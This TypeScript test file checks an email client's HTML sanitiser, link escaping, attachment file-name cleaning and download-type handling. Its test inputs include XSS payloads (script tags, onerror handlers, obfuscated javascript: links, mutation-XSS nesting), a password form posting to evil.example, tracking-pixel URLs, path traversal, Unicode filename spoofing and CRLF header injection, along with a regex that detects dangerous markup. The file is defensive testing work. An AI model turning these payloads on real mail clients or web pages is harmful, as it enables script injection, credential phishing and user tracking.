import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { contentDisposition, downloadType, safeFileName } from './file-name.ts'
import { cleanHtml } from './mail-html.ts'
import { linkText } from './mail-text.ts'

const clean = (source: string) => cleanHtml(source, {}).html
const LOADS_OR_RUNS =
  /<(script|style|iframe|object|embed|form|input|link|meta|base|svg|math|video|audio|button|template|noscript)|\son\w+\s*=|javascript:|vbscript:|url\(|@import|expression\(|src\s*=\s*["']?(?!data:)/i

describe('cleanHtml', () => {
  for (const attack of [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<p style="background:url(https://tracker.example/x)">x</p>',
    '<p style="background-color:red;background-image:u\\72l(https://tracker.example)">x</p>',
    '<p style="position:fixed;top:0;left:0;z-index:9">x</p>',
    '<style>@import url(https://tracker.example/x.css);</style>',
    '<link rel=stylesheet href=https://tracker.example/x.css><base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<form action=https://evil.example><input name=password><button>Sign in</button></form>',
    '<img src="//tracker.example/x.png"><img srcset="https://tracker.example/y.png 2x"><video poster=https://tracker.example/z.png></video>',
    '<table background="https://tracker.example/x.png"><td background="https://tracker.example/y.png">x</td></table>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<!--[if IE]><img src="https://tracker.example/ie.png"><![endif]-->',
    '</section></main><h1 id="main">fake</h1>',
  ])
    it(`disarms ${attack.slice(0, 60)}`, () => {
      const html = clean(attack)
      expect(html).not.toMatch(LOADS_OR_RUNS)
      expect(html).not.toMatch(/tracker\.example|position|id=|<\/section|<\/main/)
    })

  it('keeps what a letter needs', () => {
    const letter =
      '<p align="center" style="color:#ff0000;font-size:14px">Hi <b>you</b></p><table border="1"><tr><td colspan="2" bgcolor="#eeeeee">x</td></tr></table>'
    expect(clean(letter)).toBe(letter)
    expect(clean('<a href="mailto:a@example.org">a</a>')).toContain('href="mailto:a@example.org"')
  })

  it('puts pictures of the message in their place and words in place of others', () => {
    const { html, blocked } = cleanHtml(
      '<img src="cid:a@b" alt="A"><img src="cid:a%40b"><img src="cid:none" alt="N&quot;<i>"><img src="https://x.example/b.png" alt="B"><img src="https://x.example/p.gif" width="1">',
      { 'a@b': 'data:image/png;base64,AAAA' },
    )
    expect(html.match(/data:image\/png;base64,AAAA/g)).toHaveLength(2)
    expect(html).toContain('<span>[B]</span>')
    expect(html).not.toContain('<i>')
    expect(blocked).toBe(1)
    expect(cleanHtml('<img src="cid:__proto__"><img src="cid:constructor">', {}).html).not.toContain('src')
  })

  it('does not grow a message that names one picture over and over', () => {
    const picture = `data:image/png;base64,${'A'.repeat(1024 * 1024)}`
    expect(cleanHtml('<img src="cid:x">'.repeat(100), { x: picture }).html.length).toBeLessThan(17 * 1024 * 1024)
  })

  it('never lets through what loads or runs, whatever the tags', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '/',
      '=',
      ' ',
      '<!--',
      '-->',
      '<script',
      '</script>',
      '<img src=',
      'onerror=',
      'javascript:',
      '<style>',
      '<svg',
      '<p style="',
      'url(',
      '&#x3c;',
      'alert(1)',
      'x',
      '\u0000',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const tags = clean(pieces.join('')).match(/<[^>]*>/g) ?? []
        for (const tag of tags) expect(tag).not.toMatch(/<(script|style|svg)|\sonerror=|="\s*javascript:|url\(/i)
      }),
      { numRuns: 300 },
    )
  })

  it('takes hostile nesting in its stride', () => {
    const started = performance.now()
    clean('<div>'.repeat(10_000))
    clean(`<p style="${'color:red;'.repeat(20_000)}">`)
    clean(`<p style="color:${'a '.repeat(50_000)}">`)
    expect(performance.now() - started).toBeLessThan(5_000)
  })
})

describe('linkText', () => {
  it('escapes everything and links web addresses, without the stop that ends a sentence', () => {
    expect(linkText('See https://a.example/x?y=1&z=2. <b>').markup).toBe(
      'See <a href="https://a.example/x?y=1&#38;z=2" target="_blank" rel="noopener noreferrer nofollow">https://a.example/x?y=1&#38;z=2</a>. &#60;b&#62;',
    )
    expect(linkText('javascript:alert(1) http://"onclick=x').markup).not.toMatch(/<a/)
  })
})

describe('safeFileName', () => {
  it('names no folder, hides no ending and is never empty', () => {
    expect(safeFileName('../../etc/passwd', 'x')).toBe('_.._etc_passwd')
    expect(safeFileName('C:\\boot.ini', 'x')).toBe('C__boot.ini')
    expect(safeFileName('invoice\u202efdp.exe', 'x')).toBe('invoicefdp.exe')
    expect(safeFileName(' .. ', 'attachment-1')).toBe('attachment-1')
    expect(safeFileName('a\r\nX: y', 'x')).toBe('aX_ y')
    expect(safeFileName(`${'ä'.repeat(400)}.pdf`, 'x')).toMatch(/^ä{146}\.pdf$/)
  })

  it('is written for old and new browsers alike', () => {
    expect(contentDisposition('plain.pdf')).toBe('attachment; filename="plain.pdf"')
    expect(contentDisposition("Befund für 'Pat'.pdf")).toBe(
      `attachment; filename="Befund f_r 'Pat'.pdf"; filename*=UTF-8''Befund%20f%C3%BCr%20%27Pat%27.pdf`,
    )
  })

  it('gives no type that a browser would run', () => {
    expect(downloadType('Application/PDF')).toBe('application/pdf')
    for (const type of ['text/html', 'image/svg+xml', 'application/xhtml+xml', 'text/xml', 'x\r\ny'])
      expect(downloadType(type)).toBe('application/octet-stream')
  })
})
